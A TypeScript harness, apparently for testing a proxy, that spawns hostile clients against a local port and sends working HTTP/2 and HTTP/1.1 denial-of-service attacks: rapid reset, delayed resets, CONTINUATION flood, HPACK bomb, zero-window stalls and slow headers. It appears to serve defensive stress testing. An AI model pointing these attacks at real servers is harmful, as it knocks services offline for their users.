/**
 * Hostile clients, in a process of their own so that what they cost here is not taken for the proxy's. Usage: attackers.ts PORT
 * NAME; prints how many bytes they have sent, and how many of their connections were closed, now and then.
 */
import { connect } from 'node:net'

/** What to send on a new connection, and then again and again as long as the peer takes it. */
interface Attack {
  first(): Buffer
  next(round: number): Buffer | null
}

/** One hostile connection, opened again when it is closed. */
class Attacker {
  closed = 0
  sent = 0
  private readonly port: number
  private readonly attack: Attack

  constructor(port: number, attack: Attack) {
    this.port = port
    this.attack = attack
    this.open()
  }

  private open(): void {
    const socket = connect(this.port, '127.0.0.1')
    let round = 0
    const more = (): void => {
      if (socket.destroyed) return
      const bytes = this.attack.next(round++)
      if (bytes === null) return
      this.sent += bytes.length
      if (socket.write(bytes)) setTimeout(more, 1)
      else socket.once('drain', more)
    }
    socket.on('connect', () => {
      socket.write(this.attack.first())
      more()
    })
    socket.on('error', () => {})
    // It does not read more than it has to.
    socket.resume()
    socket.on('close', () => {
      this.closed++
      setTimeout(() => this.open(), 5)
    })
  }
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const settings = (...values: [id: number, value: number][]): Buffer =>
  frame(4, 0, 0, Buffer.concat(values.map(([id, value]) => Buffer.from([0, id, value >>> 24, value >>> 16, value >>> 8, value]))))
/** GET of a path of a.test, in HPACK. */
const get = (path: string): Buffer =>
  Buffer.concat([Buffer.from([0x82, 0x86, 0x04, path.length]), Buffer.from(path), Buffer.from([0x01, 6]), Buffer.from('a.test')])
const hello = (): Buffer => Buffer.concat([preface, settings()])
const cancel = Buffer.from([0, 0, 0, 8])

/** Of the hundred streams of a round. */
const hundred = (round: number, make: (stream: number) => Buffer[]): Buffer =>
  Buffer.concat(Array.from({ length: 100 }, (_, i) => make((round * 100 + i) * 2 + 1)).flat())

/** By what they do. */
const attacks: Record<string, Attack> = {
  'rapid reset': {
    first: hello,
    next: (round) => hundred(round, (stream) => [frame(1, 5, stream, get('/attack')), frame(3, 0, stream, cancel)]),
  },
  'resets a moment later': {
    first: hello,
    next: (round) =>
      hundred(round >> 1, (stream) => [round % 2 === 0 ? frame(1, 5, stream, get('/attack')) : frame(3, 0, stream, cancel)]),
  },
  'a CONTINUATION flood': {
    first: () => Buffer.concat([hello(), frame(1, 1, 1, get('/attack'))]),
    next: () => frame(9, 0, 1, Buffer.alloc(16_000, 0x82)),
  },
  'an HPACK bomb': {
    first: () => {
      const size = Buffer.from([0x7f, 0xbd, 0x1d])
      const entry = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('a'), size, Buffer.alloc(3900, 'x')])
      return Buffer.concat([hello(), frame(1, 5, 1, Buffer.concat([get('/attack'), entry]))])
    },
    next: (round) => frame(1, 5, round * 2 + 3, Buffer.concat([get('/attack'), Buffer.alloc(12_000, 0xbe)])),
  },
  'windows of nothing before large answers': {
    first: () => Buffer.concat([preface, settings([4, 0])]),
    next: (round) => (round < 200 ? frame(1, 5, round * 2 + 1, get('/attack/big')) : null),
  },
  'slow heads of HTTP/1.1': {
    first: () => Buffer.from('GET /attack HTTP/1.1\r\nhost: a.test\r\n'),
    next: (round) => (round < 90 ? Buffer.from(`x-${round}: y\r\n`) : null),
  },
}

const [port, name = ''] = process.argv.slice(2)
const attack = attacks[name]
if (attack === undefined) throw new Error(`no attack '${name}'; there are: ${Object.keys(attacks).join(', ')}`)
const attackers = Array.from({ length: 4 }, () => new Attacker(Number(port), attack))
const total = (of: 'sent' | 'closed'): number => attackers.reduce((sum, attacker) => sum + attacker[of], 0)
setInterval(() => console.log(`sent ${total('sent')} closed ${total('closed')}`), 100)
